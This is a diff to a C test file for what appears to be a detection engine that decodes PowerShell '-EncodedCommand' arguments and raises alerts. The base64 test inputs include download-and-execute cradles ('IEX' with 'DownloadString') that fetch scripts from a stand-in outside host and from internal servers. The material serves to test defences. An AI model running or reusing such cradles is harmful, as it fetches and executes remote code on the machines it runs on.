@@ -91,6 +91,34 @@ int main(void)
           "certutil -e SQBmACgAJABQAFMAVgBFAHIAUwBpAE8AbgBUAGEAQgBsAEUALgBQAFMA out.txt");
     CHECK_INT(n_got, 0);
 
+    /* An encoded command is read: its decoded text is in the title, and a cradle inside it
+       is one too. A cradle to an outside host names it (outbound, severity 70); one to the
+       organisation's own server (a one-label name, a name in the running host's domain)
+       weighs 45 and names nobody outside. */
+    static const char ps[] = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
+    start(&x, ps, "powershell.exe -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AdQBwAGQAYQB0AGUALQBjAGgAZQBjAGsALgBlAHgAYQBtAHAAbABlAC4AbgBlAHQALwBhAC4AcABzADEAJwApAA==");
+    CHECK_INT(n_got, 2);
+    CHECK(n_got == 2 && strstr(got[0]->title, "DownloadString('http://update-check.example.net/a.ps1')"));
+    CHECK(n_got == 2 && strstr(got[1]->title, "cradle") && got[1]->severity == 70 && got[1]->remote_name &&
+          !strcmp(got[1]->remote_name, "update-check.example.net") && got[1]->direction == TS_DIR_OUTBOUND);
+    drop_all();
+    start(&x, ps, "powershell.exe -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZABlAHAAbABvAHkALQAwADEALwBzAGMAcgBpAHAAdABzAC8AaQBuAHYAZQBuAHQAbwByAHkALgBwAHMAMQAnACkA");
+    CHECK(n_got == 2 && got[1]->severity == 45 && !got[1]->remote_name && strstr(got[1]->title, "from internal deploy-01"));
+    drop_all();
+    ts_event ev;
+    win(&ev, "windows.sysmon", 1, "ws-7.corp.example.com", T0);
+    ev.process = ts_str_c(ps);
+    ev.command_line = ts_str_c("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZABlAHAAbABvAHkALgBjAG8AcgBwAC4AZQB4AGEAbQBwAGwAZQAuAGMAbwBtAC8AaQAuAHAAcwAxACcAKQA=");
+    feed(&x, &ev);
+    CHECK(n_got == 2 && got[1]->severity == 45 && !got[1]->remote_name);
+    drop_all();
+    /* Keyed by the script it runs: the same script again is the same alert, another is not. */
+    start(&x, ps, "powershell.exe -EncodedCommand RwBlAHQALQBTAGUAcgB2AGkAYwBlACAAfAAgAFcAaABlAHIAZQAtAE8AYgBqAGUAYwB0ACAAewAkAF8ALgBTAHQAYQB0AHUAcwAgAC0AZQBxACAAJwBTAHQAbwBwAHAAZQBkACcAfQAgAHwAIABSAGUAcwB0AGEAcgB0AC0AUwBlAHIAdgBpAGMAZQAgAC0AUABhAHMAcwBUAGgAcgB1AA==");
+    start(&x, ps, "powershell.exe -EncodedCommand RwBlAHQALQBTAGUAcgB2AGkAYwBlACAAfAAgAFcAaABlAHIAZQAtAE8AYgBqAGUAYwB0ACAAewAkAF8ALgBTAHQAYQB0AHUAcwAgAC0AZQBxACAAJwBTAHQAbwBwAHAAZQBkACcAfQAgAHwAIABSAGUAcwB0AGEAcgB0AC0AUwBlAHIAdgBpAGMAZQAgAC0AUABhAHMAcwBUAGgAcgB1AA==");
+    start(&x, ps, "powershell.exe -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZABlAHAAbABvAHkALQAwADEALwBzAGMAcgBpAHAAdABzAC8AaQBuAHYAZQBuAHQAbwByAHkALgBwAHMAMQAnACkA");
+    CHECK(n_got == 4 && !strcmp(got[0]->key, got[1]->key) && strcmp(got[0]->key, got[2]->key) != 0);
+    drop_all();
+
     det_close(&x);
     ts_config_free(cfg);
     return check_done("test_powershell");
